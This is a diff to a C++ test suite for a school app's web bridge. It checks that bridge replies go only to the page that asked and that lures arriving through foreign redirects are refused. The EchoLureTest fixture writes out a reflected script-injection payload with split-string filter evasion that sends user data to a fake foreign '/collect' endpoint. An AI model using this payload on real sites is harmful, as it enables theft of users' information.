@@ -4,6 +4,11 @@
 
 #include <gtest/gtest.h>
 
+#include <cctype>
+#include <chrono>
+#include <cstdint>
+#include <filesystem>
+#include <fstream>
 #include <map>
 #include <memory>
 #include <mutex>
@@ -16,19 +21,23 @@
 #include "SocialSDK/service/SHSocialHttpClient.h"
 #include "client/ServiceConfig.h"
 #include "client/SignInState.h"
+#include "components/photopicker/PhotoPickerViewController.h"
 #include "fakes/FakeSchoolServices.h"
 #include "platform/devices/AddressBook.h"
 #include "platform/devices/ContactStore.h"
 #include "platform/devices/Devices.h"
 #include "platform/devices/LocationDevice.h"
 #include "platform/devices/MessageComposeViewController.h"
+#include "platform/devices/PhotoLibrary.h"
 #include "platform/foundation/Bundle.h"
+#include "platform/foundation/Dispatch.h"
 #include "platform/foundation/Json.h"
 #include "platform/foundation/Log.h"
 #include "platform/foundation/NotificationCenter.h"
 #include "platform/foundation/PropertyList.h"
 #include "platform/foundation/RunLoop.h"
 #include "platform/foundation/UserDefaults.h"
+#include "platform/graphics/Image.h"
 #include "platform/net/HttpClient.h"
 #include "platform/net/Reachability.h"
 #include "platform/testing/UIDriver.h"
@@ -349,7 +358,8 @@ TEST_F(BridgeTest, AStoredValueThatTriesToBreakOutReachesTheCallbackAsItsExactTe
     EXPECT_EQ(shown("count"), "1");
     EXPECT_EQ(page->webView()->pageTitle(), "网页接口演示");
 
-    // The same value as a scanned code and in a batch.
+    // The same value as a scanned code and in a batch, from the scanner the page opened.
+    EXPECT_FALSE(navigate("lanxi-bridge://scanQRCode1"));
     page->ItemScanArry({kBreakOut, "2"});
     EXPECT_EQ(Json::parse(shown("reply")), Json({{"message", std::string(kBreakOut) + ",2"}}));
     page->ItemScanStr(kBreakOut);
@@ -358,10 +368,36 @@ TEST_F(BridgeTest, AStoredValueThatTriesToBreakOutReachesTheCallbackAsItsExactTe
     EXPECT_EQ(page->webView()->pageTitle(), "网页接口演示");
 }
 
+TEST_F(BridgeTest, ScannedCodesGoOnlyToThePageThatOpenedTheScanner) {
+    page = open();
+    // Nobody asked: nothing runs.
+    page->ItemScanStr("A1");
+    EXPECT_TRUE(replies().empty());
+    EXPECT_EQ(shown("reply"), "（尚无回复）");
+
+    // The page asks, then reloads before the code comes: the page shown did not ask.
+    EXPECT_FALSE(navigate("lanxi-bridge://scanQRCodeBatch"));
+    page->webView()->reload();
+    ASSERT_TRUE(driver.runUntil([&] { return !page->webView()->isLoading(); }));
+    settle();
+    clearLog();
+    page->ItemScanArry({"B2"});
+    EXPECT_TRUE(replies().empty());
+    EXPECT_EQ(shown("reply"), "（尚无回复）");
+    EXPECT_TRUE(loggedLine("bridge: reply withheld: " + server.baseUrl() + kDemoPath +
+                           " is not the page that asked"));
+
+    // The page shown asks, and hears.
+    EXPECT_FALSE(navigate("lanxi-bridge://scanQRCode"));
+    page->ItemScanStr("C3");
+    EXPECT_EQ(shown("reply"), R"({"message":"C3"})");
+}
+
 // --- Replies of the simple commands -----------------------------------------------------
 
 TEST_F(BridgeTest, ScanRepliesCarryTheCodesAndAnEmptyBatchIsAnEmptyMessage) {
     page = open();
+    EXPECT_FALSE(navigate("lanxi-bridge://scanQRCode1"));
     page->ItemScanStr("A\"1\"");
     page->ItemScanStr("");
     page->ItemScanArry({"a\"b", "c"});
@@ -627,6 +663,7 @@ TEST_F(BridgeTest, LocationFollowsTheAuthorisation) {
         device.injectLocation(fix(30.3, 120.08));
         settle();
         EXPECT_TRUE(replies().empty());
+        EXPECT_EQ(shown("reply"), "（尚无回复）");
     }
 
     // Allowed always includes the use while the page is on screen.
@@ -635,6 +672,7 @@ TEST_F(BridgeTest, LocationFollowsTheAuthorisation) {
     device.injectLocation(fix(30.3, 120.08));
     settle();
     EXPECT_EQ(replies().size(), 1u);
+    EXPECT_EQ(Json::parse(shown("reply")).value("latitude", ""), "30.300000");
 }
 
 // --- Text messages ----------------------------------------------------------------------
@@ -948,6 +986,281 @@ TEST_F(BridgeTest, LowercaseEscapesDecodeAsUppercaseOnes) {
               Json({{"key", "一"}}));
     EXPECT_FALSE(navigate("lanxi-bridge://getStorage=%257b%2522key%2522%253a%2522a%2522%257d"));
     EXPECT_EQ(replies(), std::vector<std::string>{R"(callback( {"message":"一"} ))"});
+}
+
+// --- What led to a page stays with it; an answer goes only to the page that asked --------
+
+// The school's search page echoes its query into its HTML, so what a foreign site puts there
+// runs as a school page: its `callback` sends whatever it hears to the foreign site's
+// "/collect". The foreign site's "/bounce" redirects there.
+class EchoLureTest : public BridgeTest {
+protected:
+    static constexpr const char* kAsksForTheUser =
+        "window['loc' + 'ation'].href = 'lanxi-bridge://get' + 'UserInfo';";
+
+    EchoLureTest() {
+        server.setHandler("GET", "/search", [](const fakes::RecordedRequest& request) {
+            return htmlReply("<html><head><title>搜索</title></head><body><p>搜索：" +
+                             request.queryValue("q").value_or("") +
+                             "</p><p><a href=\"/news/list.html\">校园新闻</a></p></body></html>");
+        });
+    }
+    // The search address whose echo defines the callback, then runs `then`. Its words are
+    // split so that the address itself names no command (the bridge refuses those).
+    std::string echoAddress(const std::string& then = "") const {
+        const std::string markup =
+            "<script>function callback(r) { window['loc' + 'ation'].href = '" + foreign.baseUrl() +
+            "/collect?d=' + encodeURIComponent(JSON.stringify(r)); }" + then + "</script>";
+        std::string query;
+        for (unsigned char c : markup) {
+            static constexpr char kHex[] = "0123456789ABCDEF";
+            if (std::isalnum(c))
+                query += char(c);
+            else
+                query += {'%', kHex[c >> 4], kHex[c & 15]};
+        }
+        return server.baseUrl() + "/search?q=" + query;
+    }
+    void lureThroughBounce(const std::string& then = "", int status = 302) {
+        fakes::Reply bounce = redirectTo(echoAddress(then));
+        bounce.status = status;
+        foreign.setReply("GET", "/bounce", bounce);
+    }
+    // The user follows a foreign link that bounces to the echo.
+    void followTheLure() {
+        // Not waiting for every transfer to end: a held reply may be one of them.
+        ASSERT_TRUE(navigate(foreign.baseUrl() + "/bounce"));
+        ASSERT_TRUE(driver.runUntil([&] { return !page->webView()->isLoading(); }));
+        settle();
+        ASSERT_EQ(page->webView()->pageTitle(), "搜索")
+            << page->webView()->pageURL() << " " << page->webView()->pageStatus() << "\n"
+            << page->webView()->pageHTML();
+        ASSERT_EQ(page->webView()->pageURL().rfind(server.baseUrl() + "/search?", 0), 0u);
+    }
+    // What the echo's callback sent to the foreign site.
+    std::vector<std::string> collected() const {
+        std::vector<std::string> sent;
+        for (const auto& request : foreign.requestsTo("/collect"))
+            sent.push_back(request.queryValue("d").value_or(""));
+        return sent;
+    }
+    void waitForThePage() {
+        EXPECT_TRUE(driver.runUntil([&] {
+            return !page->webView()->isLoading() && platform::HttpClient::shared().inFlight() == 0;
+        }));
+        settle();
+    }
+    // The user taps the echo's link, then back.
+    void tapTheLinkAndBack() {
+        ASSERT_TRUE(tapOnPage("校园新闻")) << driver.outline();
+        waitForThePage();
+        ASSERT_EQ(page->webView()->pageURL(), server.baseUrl() + "/news/list.html");
+        page->webView()->goBack();
+        waitForThePage();
+        ASSERT_EQ(page->webView()->pageTitle(), "搜索");
+    }
+};
+
+TEST_F(EchoLureTest, BackForwardAndReloadKeepTheForeignHopThatLedToAPage) {
+    signIn({{"userId", "20050031"}, {"userName", "王建国"}});
+    const std::string lure = foreign.baseUrl() + "/bounce";
+    page = open();
+    for (int status : {302, 303}) {
+        SCOPED_TRACE(status);
+        lureThroughBounce(kAsksForTheUser, status);
+        clearLog();
+        followTheLure();
+        ASSERT_TRUE(loggedLine("bridge: getUserInfo refused: " + lure));
+
+        clearLog();
+        tapTheLinkAndBack();
+        EXPECT_TRUE(loggedLine("bridge: getUserInfo refused: " + lure));
+        clearLog();
+        page->webView()->reload();
+        waitForThePage();
+        EXPECT_TRUE(loggedLine("bridge: getUserInfo refused: " + lure));
+        clearLog();
+        page->webView()->goForward();
+        waitForThePage();
+        page->webView()->goBack();
+        waitForThePage();
+        EXPECT_TRUE(loggedLine("bridge: getUserInfo refused: " + lure));
+        EXPECT_FALSE(page->isUserInfoRequestPending());
+
+        // Back on the school's own page for the next round.
+        page->webView()->goBack();
+        waitForThePage();
+        ASSERT_EQ(page->webView()->pageTitle(), "网页接口演示");
+    }
+    EXPECT_TRUE(replies().empty());
+    EXPECT_TRUE(collected().empty());
+
+    // The same echo opened by the client itself is the school's page, and would send the
+    // user off: what the lure is after.
+    page = openAddress(echoAddress(kAsksForTheUser));
+    ASSERT_TRUE(driver.runUntil([&] { return !collected().empty(); }));
+    EXPECT_NE(collected().front().find("20050031"), std::string::npos) << collected().front();
+}
+
+TEST_F(EchoLureTest, AnEntryAddressThatHopsThroughAForeignSiteStaysForeignOnBackAndReload) {
+    signIn({{"userId", "20050031"}, {"userName", "王建国"}});
+    const std::string hop = foreign.baseUrl() + "/hop";
+    server.setReply("GET", "/CM/attendance.html", redirectTo(hop));
+    foreign.setReply("GET", "/hop", redirectTo(echoAddress(kAsksForTheUser)));
+
+    page = open("/CM/attendance.html");
+    ASSERT_EQ(page->webView()->pageTitle(), "搜索");
+    ASSERT_TRUE(loggedLine("bridge: getUserInfo refused: " + hop));
+    clearLog();
+    tapTheLinkAndBack();
+    EXPECT_TRUE(loggedLine("bridge: getUserInfo refused: " + hop));
+    clearLog();
+    page->webView()->reload();
+    waitForThePage();
+    EXPECT_TRUE(loggedLine("bridge: getUserInfo refused: " + hop));
+
+    EXPECT_TRUE(replies().empty());
+    EXPECT_TRUE(collected().empty());
+    EXPECT_FALSE(page->isUserInfoRequestPending());
+}
+
+TEST_F(EchoLureTest, AFixThatComesAfterTheUserFollowedAForeignLinkReachesNoPage) {
+    auto& device = platform::LocationDevice::shared();
+    device.setAuthorizationStatus(platform::LocationAuthorizationStatus::AuthorizedWhenInUse);
+    lureThroughBounce();
+    page = open();
+    ASSERT_TRUE(tapOnPage("当前位置"));
+    settle();
+    ASSERT_TRUE(replies().empty()) << "the phone knows nowhere yet";
+
+    followTheLure();
+    clearLog();
+    device.injectLocation(fix(30.3001, 120.0801));
+    settle();
+    EXPECT_TRUE(replies().empty());
+    EXPECT_TRUE(collected().empty());
+    EXPECT_TRUE(loggedLine("bridge: reply withheld: " + server.baseUrl() + "/search?"));
+
+    // Back on the page that asked, it is another showing of it, which did not ask either.
+    page->webView()->goBack();
+    waitForThePage();
+    device.injectLocation(fix(30.2500, 120.1700));
+    settle();
+    EXPECT_EQ(shown("reply"), "（尚无回复）");
+    // Asked again, it hears where the phone is.
+    ASSERT_TRUE(tapOnPage("当前位置"));
+    settle();
+    EXPECT_EQ(Json::parse(shown("reply")).value("latitude", ""), "30.250000");
+    EXPECT_TRUE(collected().empty());
+}
+
+TEST_F(EchoLureTest, UserInformationThatComesAfterTheUserFollowedAForeignLinkReachesNoPage) {
+    constexpr const char* kUserInfoPath = "/manage/user/queryUserInfoForOldApp";
+    lureThroughBounce();
+    page = open();
+    tapDemo("用户信息");
+    ASSERT_TRUE(signInPage()) << driver.outline();
+    // The user-information service answers only when the test lets it.
+    server.holdReplies("GET", kUserInfoPath);
+    ASSERT_TRUE(driver.type("account", "20050031"));
+    ASSERT_TRUE(driver.type("password", "teacher123"));
+    ASSERT_TRUE(driver.pressReturn());
+    ASSERT_TRUE(driver.tap("login"));
+    ASSERT_TRUE(driver.runUntil([&] { return !server.heldRequests(kUserInfoPath).empty(); }));
+
+    // Meanwhile the page behind the sign-in follows a foreign link.
+    followTheLure();
+    clearLog();
+    ASSERT_TRUE(server.releaseHeld(kUserInfoPath));
+    ASSERT_TRUE(driver.runUntil([&] { return !page->isUserInfoRequestPending(); }));
+    settle();
+    EXPECT_TRUE(replies().empty());
+    EXPECT_TRUE(collected().empty());
+    EXPECT_TRUE(loggedLine("bridge: reply withheld: " + server.baseUrl() + "/search?"));
+}
+
+// The page is known by itself, not by its address: the same address shown again (reloaded,
+// say) is another page, which did not ask.
+TEST_F(BridgeTest, AnAnswerSkipsAnotherShowingOfTheAddressThatAsked) {
+    constexpr const char* kUploadPath = "/vobels/services/fileUploadMportal";
+    const auto folder = home.path() / "相册";
+    std::filesystem::create_directories(folder);
+    std::ofstream(folder / "photo.png", std::ios::binary)
+        << platform::Image::fromARGB(4, 3, std::vector<std::uint32_t>(12, 0xFF336699u)).pngData();
+    ASSERT_TRUE(platform::PhotoLibrary::shared().setFolder(folder));
+    server.holdReplies("POST", kUploadPath);
+    page = open();
+    auto reload = [&] {
+        page->webView()->reload();
+        ASSERT_TRUE(driver.runUntil([&] { return !page->webView()->isLoading(); }));
+        settle();
+    };
+
+    // The user's information, after a sign-in.
+    tapDemo("用户信息");
+    ASSERT_TRUE(signInPage());
+    reload();
+    clearLog();
+    signIn({{"userId", "20050031"}});
+    platform::NotificationCenter::defaultCenter().post(SignInNotification::LoginSuccess);
+    settle();
+    EXPECT_FALSE(page->isUserInfoRequestPending());
+    EXPECT_EQ(shown("reply"), "（尚无回复）");
+    EXPECT_TRUE(loggedLine("bridge: reply withheld: " + server.baseUrl() + kDemoPath +
+                           " is not the page that asked"));
+    navigation->dismissViewController(false);
+    settle();
+
+    // A chosen photo's upload.
+    tapDemo("选择照片");
+    ASSERT_TRUE(driver.pressAlertButton("从照片中提取").ok);
+    settle();
+    auto picker = std::dynamic_pointer_cast<platform::components::PhotoPickerViewController>(
+        page->presentedViewController());
+    ASSERT_TRUE(picker);
+    picker->toggleAsset(0);
+    ASSERT_TRUE(driver.tap("完成").ok);
+    ASSERT_TRUE(driver.runUntil([&] { return !server.heldRequests(kUploadPath).empty(); }));
+    reload();
+    ASSERT_TRUE(server.releaseHeld(kUploadPath));
+    ASSERT_TRUE(driver.runUntil([] { return platform::dispatch::backgroundWorkInFlight() == 0; }));
+    settle();
+    EXPECT_EQ(shown("reply"), "（尚无回复）");
+    EXPECT_TRUE(replies().empty());
+
+    // Asked by the page shown, the answer comes.
+    EXPECT_EQ(Json::parse(tapDemo("用户信息")).value("userId", ""), "20050031");
+}
+
+TEST_F(EchoLureTest, APhotoUploadThatEndsAfterTheUserFollowedAForeignLinkReachesNoPage) {
+    constexpr const char* kUploadPath = "/vobels/services/fileUploadMportal";
+    const auto folder = home.path() / "相册";
+    std::filesystem::create_directories(folder);
+    std::ofstream(folder / "photo.png", std::ios::binary)
+        << platform::Image::fromARGB(4, 3, std::vector<std::uint32_t>(12, 0xFF336699u)).pngData();
+    ASSERT_TRUE(platform::PhotoLibrary::shared().setFolder(folder));
+    server.holdReplies("POST", kUploadPath);
+    lureThroughBounce();
+    page = open();
+
+    tapDemo("选择照片");
+    ASSERT_TRUE(driver.pressAlertButton("从照片中提取").ok);
+    settle();
+    auto picker = std::dynamic_pointer_cast<platform::components::PhotoPickerViewController>(
+        page->presentedViewController());
+    ASSERT_TRUE(picker);
+    picker->toggleAsset(0);
+    ASSERT_TRUE(driver.tap("完成").ok);
+    ASSERT_TRUE(driver.runUntil([&] { return !server.heldRequests(kUploadPath).empty(); }));
+
+    followTheLure();
+    clearLog();
+    ASSERT_TRUE(server.releaseHeld(kUploadPath));
+    ASSERT_TRUE(driver.runUntil([] { return platform::dispatch::backgroundWorkInFlight() == 0; }));
+    settle();
+    EXPECT_TRUE(replies().empty());
+    EXPECT_TRUE(collected().empty());
+    EXPECT_TRUE(loggedLine("bridge: reply withheld: " + server.baseUrl() + "/search?"));
 }
 
 }  // namespace
